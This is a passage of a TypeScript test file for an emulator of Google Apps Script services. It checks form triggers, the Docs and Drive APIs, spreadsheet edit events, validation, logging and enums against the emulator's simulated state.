    expect(runs.map((r) => [r.trigger.handler, r.ok])).toEqual([
      ['submitted', true],
      ['broken', false],
    ]);
    expect(String(runs[1]!.error)).toBe('Error: boom');
    const quiet = world.respond(form, { email: 'c@example.com', answers: {}, fireTriggers: false });
    expect(quiet.runs).toEqual([]);
    expect(bundle.functions()).toEqual(['submitted', 'broken']);
  });

  it('wants a loaded bundle to fire form-submit triggers', () => {
    const world = createWorld();
    const form = world.createForm('No bundle');
    publish(form);
    world.services.ScriptApp.newTrigger('submitted').forForm(form.getId()).onFormSubmit().create();
    expect(() => world.respond(form, { email: 'a@example.com', answers: {} })).toThrow('no bundle is loaded');
  });
});

describe('Docs advanced service', () => {
  it('creates, edits and reads documents through the emulator’s DocsState', () => {
    const world = createWorld();
    const { Docs, DriveApp } = world.services;
    const doc = Docs.Documents.create({ title: 'Pack 2026-03-02' });
    const id = doc.documentId!;
    expect(doc.title).toBe('Pack 2026-03-02');
    expect(typeof doc.revisionId).toBe('string');
    expect(DriveApp.getFileById(id).getName()).toBe('Pack 2026-03-02');
    const res = Docs.Documents.batchUpdate(
      { requests: [{ insertText: { location: { index: 1 }, text: 'Hello\n' } }] },
      id,
    );
    expect(res.replies).toEqual([{}]);
    expect(res.writeControl!.requiredRevisionId).not.toBe(doc.revisionId);
    expect(Docs.Documents.get(id, { fields: 'title,body(content(startIndex,endIndex))' })).toEqual({
      title: 'Pack 2026-03-02',
      body: { content: [{ endIndex: 1 }, { startIndex: 1, endIndex: 7 }, { startIndex: 7, endIndex: 8 }] },
    });
    const full = Docs.Documents.get(id);
    expect(full.body!.content![1]!.paragraph!.elements![0]!.textRun!.content).toBe('Hello\n');
    expect(world.count('Docs.Documents.batchUpdate')).toBe(1);
  });

  it('throws Google’s errors as the advanced service does', () => {
    const world = createWorld();
    const { Docs } = world.services;
    const { documentId } = Docs.Documents.create({ title: 'x' });
    let error: unknown;
    try {
      Docs.Documents.batchUpdate(
        {
          requests: [{ insertText: { location: { index: 1 }, text: 'a' } }],
          writeControl: { requiredRevisionId: 'stale' },
        },
        documentId!,
      );
    } catch (e) {
      error = e;
    }
    expect(String(error)).toMatch(
      /^GoogleJsonResponseException: API call to docs\.documents\.batchUpdate failed with error: The revision ID stale does not match/,
    );
    expect((error as { details: unknown }).details).toMatchObject({ code: 400 });
    expect(() => Docs.Documents.batchUpdate({ requests: [] }, documentId!)).toThrow(
      'API call to docs.documents.batchUpdate failed with error: Must specify at least one request.',
    );
    expect(() => Docs.Documents.get('missing')).toThrow(
      'API call to docs.documents.get failed with error: Requested entity was not found.',
    );
  });
});

describe('DriveApp', () => {
  it('finds folders and files, moves files, iterates like Drive', () => {
    const world = createWorld();
    const { DriveApp, Docs, FormApp } = world.services;
    const folder = DriveApp.createFolder('Packs');
    const folders = DriveApp.getFoldersByName('Packs');
    expect(folders.hasNext()).toBe(true);
    expect(folders.next().getId()).toBe(folder.getId());
    expect(folders.hasNext()).toBe(false);
    expect(() => folders.next()).toThrow('Cannot retrieve the next object: iterator has reached the end.');
    const { documentId } = Docs.Documents.create({ title: 'Pack' });
    const file = DriveApp.getFileById(documentId!);
    expect(file.getUrl()).toBe(`https://docs.google.com/document/d/${documentId}/edit?usp=drivesdk`);
    file.moveTo(folder);
    expect(folder.getFilesByName('Pack').next().getId()).toBe(documentId);
    expect(folder.getFiles().hasNext()).toBe(true);
    expect(file.getParents().next().getName()).toBe('Packs');
    file.setName('Pack (old)');
    expect(Docs.Documents.get(documentId!).title).toBe('Pack (old)');
    expect(DriveApp.getFilesByName('Pack (old)').hasNext()).toBe(true);
    const form = FormApp.create('Updates');
    publish(form);
    expect(DriveApp.getFileById(form.getId()).getName()).toBe('Updates');
    expect(DriveApp.getFileById(world.spreadsheet.getId()).getName()).toBe('Milepost');
    expect(() => DriveApp.getFolderById('nope')).toThrow('No item with the given ID could be found.');
    expect(DriveApp.getFolderById(folder.getId()).getName()).toBe('Packs');
  });
});

describe('people editing the spreadsheet', () => {
  it('sends the onEdit event Apps Script sends for one cell', () => {
    const world = createWorld();
    const sheet = milestones(world);
    const person = world.person('lead@example.com');
    const e = person.setValue('Milestones', 'B2', 'Missed');
    expect([e.value, e.oldValue, e.range.getA1Notation(), e.source.getId(), String(e.authMode)]).toEqual([
      'Missed',
      'On track',
      'B2',
      world.spreadsheet.getId(),
      'LIMITED',
    ]);
    expect(e.user.getEmail()).toBe('lead@example.com');
    expect('triggerUid' in e).toBe(false);
    const number = person.setValue(sheet, 'D2', '42');
    expect([number.value, 'oldValue' in number]).toEqual(['42', false]);
    expect(sheet.api().getRange('D2').getValue()).toBe(42);
    const date = person.setValue(sheet, 'C2', '');
    expect(date.oldValue).toBe(String((Date.UTC(2026, 1, 1) - SERIAL_EPOCH) / 86_400_000));
    expect('value' in date).toBe(false);
  });

  it('sends no value for a paste, and nothing for sorting or deleting rows', () => {
    const world = createWorld();
    const sheet = milestones(world);
    const person = world.person();
    const paste = person.paste(sheet, 'A4', [
      ['M0', 'On track', 3],
      ['M9', 'Missed', 1],
    ]);
    expect(paste.range.getA1Notation()).toBe('A4:C5');
    expect(['value' in paste, 'oldValue' in paste]).toEqual([false, false]);
    expect(person.sortRange(sheet, 'A2:C5', 1)).toBeUndefined();
    expect(world.values('Milestones').map((r) => r[0])).toEqual(['ID', 'M0', 'M1', 'M2', 'M9']);
    expect(person.sortRange(sheet, 'A2:C5', 3, false)).toBeUndefined();
    // A date sorts as its serial number (46054 for 2026-02-01): after 7.
    expect(world.values('Milestones').map((r) => r[0])).toEqual(['ID', 'M1', 'M2', 'M0', 'M9']);
    expect(person.deleteRows(sheet, 2, 2)).toBeUndefined();
    expect(world.values('Milestones').map((r) => r[0])).toEqual(['ID', 'M0', 'M9']);
  });

  it('refuses edits that validation or protection refuse', () => {
    const world = createWorld();
    const sheet = milestones(world);
    const { SpreadsheetApp } = world.services;
    const rule = SpreadsheetApp.newDataValidation()
      .requireValueInList(['On track', 'At risk', 'Missed'])
      .setAllowInvalid(false)
      .build();
    sheet.api().getRange('B2:B3').setDataValidation(rule);
    expect(() => world.person().setValue(sheet, 'B2', 'Sideways')).toThrow();
    expect(sheet.api().getRange('B2').getValue()).toBe('On track');
    sheet.api().getRange('B2').setValue('Sideways');
    expect(sheet.api().getRange('B2').getValue()).toBe('Sideways');
    const protection = sheet.api().getRange('A1:C1').protect();
    expect(() => world.person('other@example.com').setValue(sheet, 'A1', 'x')).toThrow('protected cell');
    expect(world.person().setValue(sheet, 'A1', 'Key').value).toBe('Key');
    protection.setWarningOnly(true);
    expect(world.person('other@example.com').setValue(sheet, 'B1', 'State').value).toBe('State');
  });

  it('passes the event to the script as the simple trigger receives it', () => {
    const world = createWorld();
    const sheet = milestones(world);
    const bundle = loadBundleSource(
      `function onEdit(e) {
        e.range.setNote('was ' + e.oldValue);
        return [e.source.getName(), e.range.getRow(), e.value, e.user.getEmail()].join('|');
      }`,
      world,
    );
    const event = world.person().setValue(sheet, 'B3', 'Missed');
    expect(bundle.call('onEdit', event)).toBe('Milepost|3|Missed|owner@example.com');
    expect(sheet.api().getRange('B3').getNote()).toBe('was At risk');
  });
});

describe('Session, Logger, console and Utilities', () => {
  it('formats dates, sleeps on the virtual clock and records logs', () => {
    const world = createWorld();
    const { Utilities, Session } = world.services;
    const d = new Date('2026-07-01T12:34:56Z');
    expect(Utilities.formatDate(d, 'Europe/London', "yyyy-MM-dd'T'HH:mm:ss")).toBe('2026-07-01T13:34:56');
    expect(Utilities.formatDate(d, 'Europe/London', 'HH:mm')).toBe('13:34');
    expect(Utilities.formatDate(new Date('2026-07-01T03:00:00Z'), 'America/Los_Angeles', 'yyyy-MM-dd')).toBe(
      '2026-06-30',
    );
    expect(() => Utilities.formatDate(d, 'UTC', 'yyyy-qq')).toThrow("Illegal pattern character 'q'");
    expect(Session.getScriptTimeZone()).toBe('Europe/London');
    expect(Session.getActiveUser().getEmail()).toBe('owner@example.com');
    expect(Session.getEffectiveUser().getEmail()).toBe('owner@example.com');
    const bundle = loadBundleSource(
      `function main() { Logger.log('sent %s of %s', 3, 4); console.warn('late', { id: 'M1' }); console.error(new Error('bad')); Utilities.sleep(90000); }`,
      world,
    );
    const before = world.now();
    bundle.call('main');
    expect(world.now() - before).toBe(90_000);
    expect(world.logs.map((l) => [l.source, l.level, l.message, l.functionName])).toEqual([
      ['Logger', 'info', 'sent 3 of 4', 'main'],
      ['console', 'warn', 'late {"id":"M1"}', 'main'],
      ['console', 'error', 'Error: bad', 'main'],
    ]);
  });
});

describe('enums', () => {
  it('are objects that print their name and compare by identity', () => {
    const world = createWorld();
    const { FormApp, ScriptApp } = world.services;
    const submit: GasEnum = FormApp.PageNavigationType.SUBMIT;
    expect([String(submit), submit.name(), JSON.stringify({ submit })]).toEqual([
      'SUBMIT',
      'SUBMIT',
      '{"submit":"SUBMIT"}',
    ]);
    expect(ScriptApp.AuthMode.FULL).toBe(ScriptApp.AuthMode.FULL);
    expect(ScriptApp.AuthMode.FULL).not.toBe(ScriptApp.AuthMode.LIMITED);
  });

  it('type-check responses against the platform', () => {
    const world = createWorld();
    const form = world.createForm('t');
    const r: FakeFormResponse = form.createResponse();
    expect(r.getItemResponses()).toEqual([]);
  });
});
